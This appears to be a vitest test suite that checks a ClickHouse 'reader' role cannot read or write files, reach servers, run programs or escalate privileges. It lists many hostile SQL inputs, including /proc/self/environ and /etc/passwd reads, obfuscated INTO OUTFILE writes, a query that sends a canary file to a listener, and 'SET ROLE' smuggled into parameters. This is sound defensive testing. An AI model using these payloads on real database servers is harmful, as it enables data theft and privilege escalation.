/** What a reader's password is good for: the tables. No statement reads or writes a file, asks a server, starts a program or sees what others do. */
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EngineUser } from '../../launcher/engine/engine-credentials.ts';
import { migrate } from '../../warehouse/migrate.ts';
import { createWarehouse } from '../../warehouse/warehouse.ts';
import { eventually, startEngineProcess, temporaryFolder, type EngineProcess } from './engine-process.ts';

const CANARY = 'c4n4ry-that-nobody-may-read';
let folder: Awaited<ReturnType<typeof temporaryFolder>>;
let engine: EngineProcess;
let listener: Server;
/** What the listener was asked. */
const asked: string[] = [];
/** Where statements would read, write and ask. */
let beside: string;
let port: number;

beforeAll(async () => {
  folder = await temporaryFolder();
  beside = join(folder.path, 'beside');
  await mkdir(beside);
  for (const name of ['canary', 'canary.csv', 'canary.proto', 'canary.json'])
    await writeFile(join(beside, name), `${CANARY}\n`);
  listener = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end(CANARY);
  }).listen(0, '127.0.0.1');
  // Whoever speaks another protocol.
  listener.on('clientError', (error: NodeJS.ErrnoException) => asked.push(String(error.code)));
  await once(listener, 'listening');
  ({ port } = listener.address() as AddressInfo);
  engine = await startEngineProcess(join(folder.path, 'clickhouse'));
  const warehouse = createWarehouse({ url: engine.as('loader'), by: 'worker' });
  await migrate(warehouse);
  await warehouse.close();
}, 30_000);
afterAll(async () => {
  await engine?.stop();
  listener?.close();
  await folder?.remove();
}, 30_000);

async function ask(
  user: EngineUser,
  sql: string,
  { more = '', headers = {} }: { more?: string; headers?: Record<string, string> } = {},
): Promise<{ status: number; text: string }> {
  const answer = await fetch(`${engine.url}/?${more}`, {
    method: 'POST',
    body: sql,
    headers: { ...engine.credentials.headers(user), ...headers },
  });
  return { status: answer.status, text: await answer.text() };
}

/** `@` is the folder with the canary, `%` the listener. */
const placed = (text: string): string =>
  text.replaceAll('@', beside).replaceAll('%', `127.0.0.1:${port}`).replaceAll('PORT', String(port));

const STATEMENTS: Readonly<Record<string, readonly string[]>> = {
  'table functions of files': [
    "SELECT * FROM file('@/canary', 'LineAsString')",
    "SELECT * FROM file('@/*', 'LineAsString', 'line String')",
    "SELECT _path FROM file('@/*', 'One')",
    "SELECT * FROM fileCluster('default', '@/canary', 'LineAsString')",
    "SELECT * FROM filesystem('@')",
    "SELECT * FROM sqlite('@/canary', 't')",
    "SELECT * FROM icebergLocal('@')",
    "SELECT * FROM deltaLakeLocal('@')",
    "SELECT * FROM paimonLocal('@')",
    "SELECT * FROM view(SELECT * FROM file('@/canary', 'LineAsString'))",
    "SELECT * FROM viewIfPermitted(SELECT * FROM file('@/canary', 'LineAsString') ELSE url('http://%/', 'LineAsString'))",
    "SELECT (SELECT * FROM file('@/canary', 'LineAsString'))",
    "SELECT 1 IN (SELECT * FROM file('@/canary', 'LineAsString'))",
    "WITH x AS (SELECT * FROM file('@/canary', 'LineAsString')) SELECT * FROM x",
    "SELECT * FROM trips JOIN file('@/canary', 'LineAsString') AS f ON 1",
    "DESCRIBE TABLE file('@/canary.csv')",
    "EXPLAIN SELECT * FROM file('@/canary.csv')",
    "EXPLAIN ESTIMATE SELECT * FROM file('@/canary.csv')",
    "SELECT * FROM /* file */ FILE('@/canary', 'LineAsString')",
  ],
  'paths as tables': [
    'SELECT * FROM "@/canary.csv"',
    'SELECT * FROM `@/canary.csv`',
    'SELECT * FROM default."@/canary.csv"',
    'SELECT 1 IN "@/canary.csv"',
    'DESCRIBE "@/canary.csv"',
    'EXISTS "@/canary.csv"',
    'SHOW CREATE TABLE "@/canary.csv"',
    'SELECT * FROM loop("@/canary.csv")',
    "SELECT * FROM merge('default', '.*canary.*')",
    "SELECT joinGet('@/canary.csv', 'c1', 1)",
    "SELECT hasColumnInTable('default', '@/canary.csv', 'c1')",
  ],
  'functions of files': [
    "SELECT file('@/canary')",
    "SELECT file('/proc/self/environ')",
    'SELECT "file"(\'@/canary\')',
    "SELECT `file`('@/canary')",
    'SELECT "fi\\x6ce"(\'@/canary\')',
    "SELECT * APPLY(file) FROM (SELECT '@/canary' AS x)",
    "SELECT 1e--5, file('@/canary')",
    "SELECT arrayMap(file, ['@/canary'])",
    "SELECT arrayMap(x -> file(x), ['@/canary'])",
    "SELECT throwIf(1, file('@/canary'))",
    "EXPLAIN QUERY TREE SELECT file('@/canary')",
    "EXPLAIN actions = 1 SELECT upper(file('@/canary'))",
    "SELECT catboostEvaluate('@/canary', 1)",
    "SELECT 1 SETTINGS additional_result_filter = 'throwIf(1, file(\\'@/canary\\'))'",
    "SELECT count() FROM trips SETTINGS additional_table_filters = {'trips': 'file(\\'@/canary\\') = 1'}",
    "SELECT * FROM eval('SELECT file(\\'@/canary\\')')",
    "SELECT * FROM eval('SELECT file(\\'@/canary\\')') SETTINGS allow_experimental_eval_table_function = 1",
    "SELECT * FROM eval('SELECT file(\\'@/canary\\')') SETTINGS allow_experimental_eval_table_function",
  ],
  'formats that read or write files': [
    "SELECT 1 AS a FORMAT Template SETTINGS format_template_resultset = '@/canary'",
    "SELECT 1 AS a FORMAT Template SETTINGS format_template_row = '@/canary'",
    "SELECT formatRow('Template', 1) SETTINGS format_template_row = '@/canary'",
    "SELECT 1 AS a FORMAT Protobuf SETTINGS format_schema = '@/canary.proto:Message'",
    "SELECT 1 AS a FORMAT Protobuf SETTINGS output_format_schema = '@/written'",
    'SELECT 1 AS a SETTINGS "output_format_schema" = \'@/written\' FORMAT Protobuf',
    "SELECT 1 AS a FORMAT AvroConfluent SETTINGS format_avro_schema_registry_url = 'http://%/', output_format_avro_confluent_subject = 'a'",
    "SELECT * FROM format(LineAsString, 'a') SETTINGS input_format_record_errors_file_path = '@/written'",
    "SELECT 1 SETTINGS dialect = 'prql'",
    "SELECT 1 SETTINGS compatibility = '20.1'",
  ],
  'INTO OUTFILE, however it is hidden': [
    "SELECT 1 INTO OUTFILE '@/written'",
    "SELECT 1 into/**/outfile '@/written' FORMAT CSV",
    "SELECT 1 // '\nINTO OUTFILE '@/written' // '",
    "SELECT 1 AS a$b$ INTO OUTFILE '@/written' FORMAT CSV; SELECT 1 -- $b$",
    "SELECT 1 /* /* */ ' */ INTO OUTFILE '@/written' -- '",
    "SELECT ‘'’ AS a INTO OUTFILE '@/written' FORMAT CSV -- '",
    "SELECT $a$ $b$ $a$ INTO OUTFILE '@/written' -- $b$",
    "SELECT 1\u00a0INTO OUTFILE '@/written'",
    "SELECT 1e--5 INTO OUTFILE '@/written'",
    "SELECT '\\\\' INTO OUTFILE '@/written' -- '",
    "SHOW TABLES INTO OUTFILE '@/written'",
    "EXPLAIN SELECT 1 INTO OUTFILE '@/written'",
  ],
  'other servers': [
    "SELECT * FROM url('http://%/', 'LineAsString')",
    "SELECT * FROM urlCluster('default', 'http://%/', 'LineAsString', 'l String')",
    "SELECT * FROM s3('http://%/bucket/key.csv')",
    "SELECT * FROM s3Cluster('default', 'http://%/bucket/key.csv')",
    "SELECT * FROM gcs('http://%/bucket/key.csv')",
    "SELECT * FROM oss('http://%/bucket/key.csv')",
    "SELECT * FROM iceberg('http://%/bucket/key/')",
    "SELECT * FROM deltaLake('http://%/bucket/key/')",
    "SELECT * FROM hudi('http://%/bucket/key/')",
    "SELECT * FROM paimon('http://%/bucket/key/')",
    "SELECT * FROM azureBlobStorage('http://%/x', 'c', 'p', 'a', 'a2V5')",
    "SELECT * FROM hdfs('hdfs://%/x', 'CSV')",
    "SELECT * FROM ytsaurus('http://%', '//x', 'token', 'a Int8')",
    "SELECT * FROM mongodb('%', 'd', 'c', 'u', 'p', 'a Int8')",
    "SELECT * FROM redis('%', 'k', 'k String, v String')",
    "SELECT * FROM postgresql('%', 'd', 't', 'u', 'p')",
    "SELECT * FROM mysql('%', 'd', 't', 'u', 'p')",
    "EXPLAIN TABLE OVERRIDE mysql('%', 'd', 't', 'u', 'p') COLUMNS (a Int8)",
    "SELECT * FROM odbc('DSN=x', 'd', 't')",
    "SELECT * FROM jdbc('jdbc:x://%', 'd', 't')",
    "SELECT * FROM remote('%', system.one)",
    "SELECT * FROM remoteSecure('%', system.one)",
    "SELECT * FROM cluster('default', system.one)",
    "SELECT aiGenerate('c', 'hello')",
    "SELECT aiGenerate('c', 'hello') SETTINGS allow_experimental_ai_functions = 1",
    "SELECT * FROM url(concat('http://%/', (SELECT file('@/canary'))), 'LineAsString')",
  ],
  'programs, dictionaries and what only others may define': [
    "SELECT * FROM executable('canary.sh', CSV, 'a Int8')",
    "SELECT * FROM dictionary('d')",
    'CREATE FUNCTION f AS x -> file(x)',
    "CREATE DICTIONARY d (a UInt64) PRIMARY KEY a SOURCE(FILE(path '@/canary' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
    "CREATE TEMPORARY TABLE t (a String) ENGINE = File(CSV, '@/canary.csv')",
    "CREATE TEMPORARY TABLE t (a String) ENGINE = URL('http://%/', CSV)",
    "CREATE TABLE t (a String) ENGINE = File(CSV, '@/written')",
    "CREATE VIEW v AS SELECT file('@/canary')",
    "CREATE DATABASE d ENGINE = Filesystem('@')",
    "CREATE NAMED COLLECTION c AS url = 'http://%/'",
    "INSERT INTO FUNCTION file('@/written', 'CSV', 'a UInt8') SELECT 1",
    "INSERT INTO FUNCTION url('http://%/', 'CSV', 'a UInt8') SELECT 1",
    "WITH 1 AS x INSERT INTO FUNCTION file('@/written', 'CSV', 'a UInt8') SELECT x",
    "INSERT INTO loads (sequence, kind) VALUES (1, 'published')",
    "BACKUP TABLE trips TO File('@/written')",
    "RESTORE TABLE trips FROM File('@/written')",
    "ATTACH TABLE t FROM '@' (a String) ENGINE = MergeTree ORDER BY a",
    'SYSTEM SHUTDOWN',
    'DROP TABLE trips',
  ],
  'another role, or a session that is not a reader’s': [
    'SET ROLE loader',
    'SET ROLE ALL',
    'SET readonly = 0',
    'EXECUTE AS default SELECT 1',
    'SELECT 1 SETTINGS readonly = 0',
    "SELECT file('@/canary') SETTINGS readonly = 0",
    'SELECT 1; SET ROLE loader',
    'SELECT 1 PARALLEL WITH SET ROLE loader',
    'SHOW TABLES PARALLEL WITH SET ROLE loader',
    'SELECT 1 SETTINGS http_max_uri_size = 1',
    'SELECT 1 SETTINGS max_memory_usage = 0',
    'SHOW CREATE USER default',
    'SELECT * FROM system.users',
    'SELECT * FROM system.row_policies',
    'SELECT * FROM system.symbols',
    "KILL QUERY WHERE query_id != '' ASYNC",
  ],
};

describe.each(Object.entries(STATEMENTS))('%s', (_, statements) => {
  it.each(statements)('%s', async (statement) => {
    const { status, text } = await ask('reader', placed(statement));
    expect(text).toMatch(/^Code: \d+\. DB::Exception: /);
    expect(status).toBeGreaterThanOrEqual(400);
    expect(text).not.toContain(CANARY);
  });
});

it.each([
  ['a setting', { more: 'format_template_resultset=%2Fetc%2Fpasswd' }],
  ['a setting of how much memory', { more: 'max_memory_usage=0' }],
  ['a dialect', { more: 'dialect=prql' }],
  ['a format', { more: `default_format=${encodeURIComponent('CSV; SET ROLE loader')}` }],
  ['a format as header', { headers: { 'X-ClickHouse-Format': "CSV INTO OUTFILE '/tmp/x'" } }],
  ['a parameter’s name', { more: `param_${encodeURIComponent("x = '1'; SET ROLE loader; SET param_y")}=1` }],
  ['a database', { more: `database=${encodeURIComponent('`; SET ROLE loader; USE `default')}` }],
])('refuses what comes beside a statement: %s', async (_, beside) => {
  const { status, text } = await ask('reader', 'SELECT currentRoles()', beside);
  expect(status).toBeGreaterThanOrEqual(400);
  expect(text).toMatch(/^Code: (36|452|497)\. /);
});

it('refuses it to the gateway’s user, too', async () => {
  for (const statement of ["SELECT file('@/canary')", "SELECT * FROM file('@/canary', 'LineAsString')"])
    expect(await ask('gateway', placed(statement))).toMatchObject({
      text: expect.stringMatching(/^Code: 497\./),
    });
});

it('lets a reader read, and say how', async () => {
  const questions: Readonly<Record<string, string>> = {
    'SELECT count() FROM trips': '0\n',
    "SELECT count() FROM rejected_rows WHERE filename = 'file' SETTINGS max_threads = 1, log_comment = 'x'":
      '0\n',
    "SELECT 'file', '$x$', 'INTO OUTFILE', 'é', 1 AS \"a b\" -- file 'x'": 'file\t$x$\tINTO OUTFILE\té\t1\n',
    'SELECT quantileExact(0.9)(number) FROM numbers(10) SETTINGS output_format_json_quote_64bit_integers = 0':
      '9\n',
    "SELECT name FROM system.tables WHERE database = currentDatabase() AND name = 'trips'": 'trips\n',
    "SELECT count() > 20 FROM system.columns WHERE table = 'trips'": '1\n',
    "SELECT readonly FROM system.settings WHERE name = 'dialect'": '1\n',
    'EXISTS TABLE trips': '1\n',
    'SELECT sum(a) FROM (SELECT 1 AS a UNION ALL SELECT 2) LIMIT 1 OFFSET 0': '3\n',
    'SELECT count() FROM files FINAL': '0\n',
  };
  for (const [question, answer] of Object.entries(questions))
    expect(await ask('reader', question)).toEqual({ status: 200, text: answer });
  const more =
    'max_execution_time=5&readonly=2&extremes=0&output_format_parquet_compression_method=zstd&param_a=b';
  expect(await ask('reader', 'SELECT {a:String}', { more })).toEqual({ status: 200, text: 'b\n' });
});

it('gives a reader any format, also of values in the body', async () => {
  const client = engine.client({ readonly: '2', max_execution_time: 9 }, 'reader');
  for (const [format, magic] of [
    ['Parquet', 'PAR1'],
    ['ArrowStream', '\u00ff\u00ff\u00ff\u00ff'],
    ['Native', '\u0001\u0001'],
  ] as const) {
    const { stream } = await client.exec({
      query: `SELECT {a:UInt8} AS a FORMAT ${format}`,
      query_params: { a: 1 },
    });
    const bytes = Buffer.concat((await stream.toArray()) as Buffer[]).toString('latin1');
    expect(bytes.startsWith(magic), format).toBe(true);
  }
  const secret = await client.query({
    query: 'SELECT {secret_a:String} AS a',
    query_params: { secret_a: "it's" },
    use_multipart_params: true,
    format: 'JSONEachRow',
  });
  expect(await secret.json()).toEqual([{ a: "it's" }]);
});

it('shows a reader nothing of what others do', async () => {
  const secret = 'a-password-in-a-statement';
  const abort = new AbortController();
  const running = fetch(engine.url, {
    method: 'POST',
    body: `SELECT sleepEachRow(1), '${secret}' FROM numbers(100) SETTINGS max_block_size = 1`,
    headers: engine.credentials.headers('loader'),
    signal: abort.signal,
  }).catch(() => undefined);
  const seenBy = async (user: EngineUser) =>
    (await ask(user, `SELECT count() FROM system.processes WHERE query LIKE '%sleepEachRow%'`)).text;
  await eventually(async () => (await seenBy('loader')) === '2\n');
  expect(await seenBy('reader')).toBe('0\n');
  expect((await ask('reader', 'SHOW PROCESSLIST')).text).toBe('');
  expect((await ask('reader', "SELECT * FROM merge('system', '^(processes|errors)$')")).text).not.toContain(
    secret,
  );
  await ask('loader', `SELECT throwIf(1, '${secret}')`);
  expect((await ask('loader', 'SELECT last_error_message FROM system.errors')).text).toContain(secret);
  expect((await ask('reader', 'SELECT * FROM system.errors')).text).toBe('');
  abort.abort();
  await running;
});

it('has let none of them reach anything', async () => {
  expect(asked).toEqual([]);
  expect(await readdir(beside)).toEqual(['canary', 'canary.csv', 'canary.json', 'canary.proto']);
  // The canary can be read, and the listener asked, by whoever may.
  expect((await ask('loader', placed("SELECT file('@/canary')"))).text).toContain(CANARY);
  expect((await fetch(`http://127.0.0.1:${port}/`)).status).toBe(200);
  expect(asked).toEqual(['/']);
});

it('knows all that this version of the engine has', async () => {
  const names = async (table: string) => {
    const condition = table === 'tables' ? " WHERE database = 'system'" : '';
    const { text } = await ask('loader', `SELECT name FROM system.${table}${condition} ORDER BY name`);
    const digest = createHash('sha256').update(text).digest('hex').slice(0, 8);
    return `${text.trim().split('\n').length} ${digest}`;
  };
  const kinds = ['functions', 'table_functions', 'settings', 'tables', 'formats'];
  const found = Object.fromEntries(await Promise.all(kinds.map(async (kind) => [kind, await names(kind)])));
  // Another version has others: look what they reach, and whether readers-statement.ts and access/users.xml must name them. Then write these lines anew.
  expect(found).toEqual({
    functions: '1825 b852555d',
    table_functions: '90 119cf7b0',
    settings: '1721 9a676623',
    tables: '122 1f5007e3',
    formats: '110 b98e0a35',
  });
});

it('shows a reader no table of system but these', async () => {
  const { text } = await ask('loader', "SELECT name FROM system.tables WHERE database = 'system'");
  const users = await readFile(new URL('../../launcher/engine/access/users.xml', import.meta.url), 'utf8');
  const hidden = new Set([...users.matchAll(/<(\w+)><filter>/g)].map(([, name]) => name));
  const shown = text
    .trim()
    .split('\n')
    .filter((name) => !hidden.has(name));
  expect(shown.toSorted()).toEqual([
    ...'aggregate_function_combinators build_options codecs collations columns completions constraints'.split(
      ' ',
    ),
    ...'contributors current_roles dashboards data_skipping_index_types data_skipping_indices'.split(' '),
    ...'data_type_families database_engines databases documentation enabled_roles events formats functions'.split(
      ' ',
    ),
    ...'keywords licenses merge_tree_settings merges metrics mutations numbers numbers_mt one parts'.split(
      ' ',
    ),
    ...'parts_columns primes privileges projection_parts projection_parts_columns projections settings'.split(
      ' ',
    ),
    ...'settings_changes table_engines table_functions tables time_zones tokenizers unicode zeros zeros_mt'.split(
      ' ',
    ),
  ]);
});

it('may read each of our tables', async () => {
  const { text } = await ask('loader', 'SHOW TABLES');
  for (const table of text.trim().split('\n'))
    expect(await ask('reader', `SELECT count() >= 0 FROM ${table}`), table).toEqual({
      status: 200,
      text: '1\n',
    });
});
